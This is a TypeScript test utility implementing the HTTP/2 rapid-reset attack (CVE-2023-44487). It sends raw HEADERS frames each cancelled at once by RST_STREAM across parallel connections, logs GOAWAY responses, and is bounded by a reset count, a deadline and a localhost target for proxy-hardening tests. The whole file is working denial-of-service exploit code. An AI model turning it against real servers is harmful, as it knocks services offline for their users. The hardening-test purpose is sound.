/**
 * An HTTP/2 rapid-reset client (CVE-2023-44487) written with raw frames, so it costs the machine
 * little next to the proxy it attacks: over h2c prior knowledge it sends batches of HEADERS
 * (END_STREAM) each followed at once by RST_STREAM(CANCEL), on a fresh connection whenever the
 * server ends one, and records every GOAWAY it receives (last-stream id, error code). Bounded by
 * a reset count and a deadline. Used by test/proxy-hardening.test.ts and bench/rapid-reset.ts.
 */
import net from 'node:net';

export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
export const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
export const FRAME_SETTINGS = 0x4;
const FRAME_GOAWAY = 0x7;

/** One HTTP/2 frame. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

/** HPACK header block: GET, http, the given path and authority as literals without indexing. */
export function headerBlock(path: string, authority: string): Buffer {
  const lit = (index: number, value: string) => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat([Buffer.from([0x82, 0x86]), lit(0x04, path), lit(0x01, authority)]);
}

export interface GoawaySeen {
  readonly lastStreamId: number;
  readonly code: number;
}

export interface RapidResetResult {
  /** Streams opened and reset. */
  readonly resets: number;
  readonly connections: number;
  /** GOAWAY frames per connection, in order. */
  readonly goaways: GoawaySeen[][];
}

export interface RapidResetOptions {
  readonly port: number;
  /** Each request's path is `${pathPrefix}${n}`; count what reached the backend by it. */
  readonly pathPrefix: string;
  readonly authority?: string;
  /** Stop after this many resets (bound). */
  readonly maxResets: number;
  /** Stop at this time (ms since epoch; bound). */
  readonly deadline: number;
  /** HEADERS + RST_STREAM pairs per write. */
  readonly batch?: number;
  /** Pause between batches on one connection, ms (0: as fast as the socket drains). */
  readonly pauseMs?: number;
  /** Connections attacking at once. */
  readonly parallel?: number;
}

/** Runs the attack until `maxResets` or `deadline`; resolves with what was sent and seen. */
export async function rapidReset(o: RapidResetOptions): Promise<RapidResetResult> {
  let resets = 0;
  let connections = 0;
  const goaways: GoawaySeen[][] = [];
  const batch = o.batch ?? 50;
  const more = () => resets < o.maxResets && Date.now() < o.deadline;
  const oneConnection = () => new Promise<void>((resolve) => {
    connections++;
    const seen: GoawaySeen[] = [];
    goaways.push(seen);
    const s = net.connect(o.port, '127.0.0.1');
    s.setNoDelay(true);
    let buf = Buffer.alloc(0);
    let next = 1;
    let ended = false;
    const end = () => {
      if (ended) return;
      ended = true;
      s.destroy();
      resolve();
    };
    s.on('error', end);
    s.on('close', end);
    s.on('data', (d) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3];
        const flags = buf[4];
        if (type === FRAME_SETTINGS && (flags & 1) === 0) s.write(frame(FRAME_SETTINGS, 1, 0, Buffer.alloc(0)));
        if (type === FRAME_GOAWAY) seen.push({ lastStreamId: buf.readUInt32BE(9) & 0x7fffffff, code: buf.readUInt32BE(13) });
        buf = buf.subarray(9 + len);
      }
    });
    const send = () => {
      if (ended) return;
      // Told to go away, or done: stop sending and give the server a moment to say the rest
      // (a second GOAWAY would show here) and close.
      if (seen.length > 0 || !more()) return void setTimeout(end, 1000);
      const frames: Buffer[] = [];
      for (let i = 0; i < batch && more(); i++, resets++) {
        const id = next;
        next += 2;
        frames.push(frame(FRAME_HEADERS, 0x5, id, headerBlock(`${o.pathPrefix}${id}`, o.authority ?? 'x')));
        frames.push(frame(FRAME_RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
      }
      const drained = s.write(Buffer.concat(frames));
      const again = () => (o.pauseMs ? setTimeout(send, o.pauseMs) : setImmediate(send));
      if (drained) again();
      else s.once('drain', again);
    };
    s.on('connect', () => {
      s.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
      send();
    });
  });
  const worker = async () => {
    while (more()) await oneConnection();
  };
  await Promise.all(Array.from({ length: o.parallel ?? 1 }, worker));
  return { resets, connections, goaways };
}
